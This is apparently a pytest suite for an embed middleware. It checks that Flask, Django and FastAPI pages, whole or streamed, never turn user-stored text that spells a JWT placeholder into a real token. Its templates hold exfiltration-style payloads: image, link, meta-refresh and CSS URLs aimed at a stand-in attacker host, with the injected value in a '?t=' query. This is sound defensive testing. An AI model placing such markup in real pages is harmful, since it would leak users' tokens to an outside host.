"""Placeholder injection through the framework integrations: the Flask extension (Jinja2), the Django
middleware (Django templates) and FastAPI with ``Jinja2Templates``, each page whole and streamed.

Each page shows one user's value in every sink, rendered by the framework's own template engine with
autoescaping on, beside the app's own iframe written by the integration's helper. The view also renders
the same template with the helper standing in as ``MARK``: the reference the client's bytes must equal,
once the one token is put back as ``MARK``.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Iterator
from typing import Any
from urllib.parse import urlencode

import pytest
from django.http import HttpRequest, HttpResponse, StreamingHttpResponse
from django.template import RequestContext, Template
from django.test import AsyncClient, Client, override_settings
from django.urls import path
from fastapi import FastAPI, Request
from fastapi.responses import HTMLResponse, StreamingResponse
from fastapi.templating import Jinja2Templates
from flask import Flask, Response, render_template_string, stream_template_string
from jinja2 import DictLoader, Environment

from embed_middleware import EmbedASGIMiddleware, TokenIssuer, from_environ
from embed_middleware.flask import Embed
from embed_middleware.templating import add_embed_globals
from tests.support import django_setup  # noqa: F401  (configures Django for this process, once)
from tests.support.injection_cases import ATTACKER, KEY, MARK, RESOURCE, SPELLINGS, TENANT, check_page
from tests.support.parity import call_asgi, check_sequence, http_scope

JINJA_PAGE = """<!doctype html>
<main>
<p>{{ v }}</p>
<img src="{{ evil }}?t={{ v }}">
<a href="{{ evil }}?t={{ v }}">profile</a>
<meta http-equiv="refresh" content="30;url={{ evil }}?t={{ v }}">
<iframe src="https://charts.example.com/embed?token={{ embed_placeholder('top_airlines') }}"></iframe>
<div style="background:url({{ evil }}?t={{ v }})"></div>
{{ sanitised|safe }}
<div data-note="{{ v }}"></div>
<script type="application/json">{{ {"note": v}|tojson }}</script>
<a href="/search?{{ query }}">again</a>
</main>
"""
DJANGO_TAG = '{% embed_placeholder "top_airlines" %}'
DJANGO_PAGE = (
    """{% load embed %}<!doctype html>
<main>
<p>{{ v }}</p>
<img src="{{ evil }}?t={{ v }}">
<a href="{{ evil }}?t={{ v }}">profile</a>
<meta http-equiv="refresh" content="30;url={{ evil }}?t={{ v }}">
<iframe src="https://charts.example.com/embed?token="""
    + DJANGO_TAG
    + """"></iframe>
<div style="background:url({{ evil }}?t={{ v }})"></div>
{{ sanitised|safe }}
<div data-note="{{ v }}"></div>
{{ note|json_script:"note" }}
<a href="/search?{{ query }}">again</a>
</main>
"""
)


def values(spelling: str) -> dict[str, Any]:
    """What the user stored, as the view hands it to the template."""
    v = SPELLINGS[spelling]
    return {
        "v": v,
        "evil": ATTACKER,
        "sanitised": f'<div class="post"><img alt="pic" src="{ATTACKER}?t={v}"></div>',
        "query": urlencode({"q": v, "next": ATTACKER}),
        "note": {"note": v},
    }


def mark(*args: Any) -> str:
    return MARK


MODES = ["whole", "streamed"]
references: list[str] = []


# -- Flask ---------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def flask_app() -> Flask:
    app = Flask(__name__)
    Embed(app, issuer=TokenIssuer(KEY, resources=[RESOURCE]), resolver=lambda: TENANT)

    @app.get("/<mode>/<spelling>")
    def show(mode: str, spelling: str) -> Any:
        context = values(spelling)
        references.append(render_template_string(JINJA_PAGE, embed_placeholder=mark, **context))
        if mode == "whole":
            return render_template_string(JINJA_PAGE, **context)
        return Response(stream_template_string(JINJA_PAGE, **context), content_type="text/html")

    return app


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("spelling", sorted(SPELLINGS))
def test_flask_extension(flask_app: Flask, mode: str, spelling: str) -> None:
    references.clear()
    response = flask_app.test_client().get(f"/{mode}/{spelling}")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "private, no-store"
    check_page(response.get_data(), references[0])


# -- Django --------------------------------------------------------------------------------------------


def django_view(request: HttpRequest, mode: str, spelling: str) -> HttpResponse | StreamingHttpResponse:
    request.META["embed.tenant"] = TENANT
    context = values(spelling)
    references.append(
        Template(DJANGO_PAGE.replace(DJANGO_TAG, MARK)).render(RequestContext(request, context))
    )
    html = Template(DJANGO_PAGE).render(RequestContext(request, context))
    if mode == "whole":
        return HttpResponse(html)

    data = html.encode()

    def chunks() -> Iterator[bytes]:
        for start in range(0, len(data), 7):
            yield data[start : start + 7]

    async def achunks() -> AsyncIterator[bytes]:
        for chunk in chunks():
            yield chunk

    return StreamingHttpResponse(achunks() if mode == "astreamed" else chunks())


urlpatterns = [path("<str:mode>/<str:spelling>", django_view)]
DJANGO_SETTINGS = {
    "ROOT_URLCONF": __name__,
    "MIDDLEWARE": ["embed_middleware.django.EmbedMiddleware"],
    "EMBED_MIDDLEWARE": {"issuer": TokenIssuer(KEY, resources=[RESOURCE]), "resolver": from_environ()},
}


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("spelling", sorted(SPELLINGS))
def test_django_middleware_sync(mode: str, spelling: str) -> None:
    references.clear()
    with override_settings(**DJANGO_SETTINGS):
        response = Client().get(f"/{mode}/{spelling}")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert response.headers["Cache-Control"] == "private, no-store"
    check_page(body, references[0])


@pytest.mark.parametrize("spelling", sorted(SPELLINGS))
def test_django_middleware_async(spelling: str) -> None:
    async def fetch() -> Any:
        response = await AsyncClient().get(f"/astreamed/{spelling}")
        return b"".join([chunk async for chunk in response.streaming_content])

    references.clear()
    with override_settings(**DJANGO_SETTINGS):
        body = asyncio.run(fetch())
    check_page(body, references[0])


# -- FastAPI with Jinja2Templates -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def fastapi_app() -> Any:
    app = FastAPI()
    templates = Jinja2Templates(
        env=Environment(loader=DictLoader({"page.html": JINJA_PAGE}), autoescape=True)
    )
    add_embed_globals(templates.env)

    @app.get("/{mode}/{spelling}", response_class=HTMLResponse)
    async def show(request: Request, mode: str, spelling: str) -> Any:
        request.state.embed_tenant = TENANT
        context = values(spelling)
        template = templates.get_template("page.html")
        references.append(template.render(request=request, embed_placeholder=mark, **context))
        if mode == "whole":
            return templates.TemplateResponse(request, "page.html", context)
        parts = template.generate(request=request, **context)
        return StreamingResponse((part.encode() for part in parts), media_type="text/html")

    app.add_middleware(
        EmbedASGIMiddleware,  # type: ignore[arg-type, unused-ignore]
        issuer=TokenIssuer(KEY, resources=[RESOURCE]),
        resolver=from_environ(),
    )
    return app


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("spelling", sorted(SPELLINGS))
def test_fastapi_templates(fastapi_app: Any, mode: str, spelling: str) -> None:
    references.clear()
    messages = asyncio.run(call_asgi(fastapi_app, http_scope(f"/{mode}/{spelling}")))
    check_sequence(messages)
    assert messages[0]["status"] == 200
    assert (b"cache-control", b"private, no-store") in messages[0]["headers"]
    body = b"".join(m.get("body", b"") for m in messages if m["type"] == "http.response.body")
    check_page(body, references[0])


def test_the_reference_pages_really_carry_every_spelling() -> None:
    """The catalogue is only as strong as its pages: each renders the attacker's text (not an error)."""
    rendered = (
        Environment(autoescape=True)
        .from_string(JINJA_PAGE)
        .render(embed_placeholder=mark, **values("raw named"))
    )
    assert rendered.count("JWT_TOKEN") >= 8 and MARK in rendered
    assert json.loads(rendered.split('application/json">')[1].split("</script>")[0]) == {
        "note": "<JWT_TOKEN:top_airlines>"
    }
